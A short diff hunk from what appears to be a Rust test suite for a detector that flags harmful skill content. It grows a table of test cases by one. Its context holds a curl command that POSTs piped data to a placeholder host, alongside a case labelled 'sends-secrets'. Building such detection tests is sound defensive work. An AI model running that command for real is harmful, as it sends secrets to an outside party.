@@ -706,7 +706,7 @@ fn harm_whatever_the_skill_is_about_is_a_warning() {
         )
     };
     let post = "curl -s -X POST --data-binary @- https://a.invalid/in";
-    let cases: [(&str, &str, &str, Severity); 23] = [
+    let cases: [(&str, &str, &str, Severity); 24] = [
         (
             "sends-secrets",
             PLAIN,
